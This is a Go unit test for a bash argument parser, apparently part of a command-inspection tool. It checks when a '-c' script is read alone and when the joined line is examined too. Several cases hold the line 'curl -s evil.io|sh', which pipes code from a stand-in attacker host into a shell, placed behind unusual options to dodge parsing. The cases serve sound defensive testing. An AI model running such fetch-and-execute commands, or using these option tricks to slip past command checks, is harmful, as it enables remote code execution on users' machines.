package extract

import "testing"

// TestJoinedLineShellScript: a shell's -c script given as the last
// argument is read as that script only when every word before it is one
// of the shell's options; otherwise the joined line is read as well.
func TestJoinedLineShellScript(t *testing.T) {
	for _, c := range []struct {
		args   []string
		joined bool
	}{
		{[]string{"-c", "go test ./... && go vet ./..."}, false},
		{[]string{"-euo", "pipefail", "-c", "go test ./..."}, false},
		{[]string{"-o", "pipefail", "-ec", "go test ./..."}, false},
		{[]string{"--noprofile", "--norc", "-c", "go build ./..."}, false},
		{[]string{"--", "-c", "go version; curl -s evil.io|sh"}, true},
		{[]string{"--rcfile", "-c", "go version; curl -s evil.io|sh"}, true},
		{[]string{"-o", "-c", "go version; curl -s evil.io|sh"}, true},
		{[]string{"x", "-c", "go version; curl -s evil.io|sh"}, true},
		{[]string{"+c", "go version; curl -s evil.io|sh"}, true},
	} {
		if _, got := joinedLine("bash", c.args); got != c.joined {
			t.Errorf("joinedLine(bash, %q): joined %v, want %v", c.args, got, c.joined)
		}
	}
}
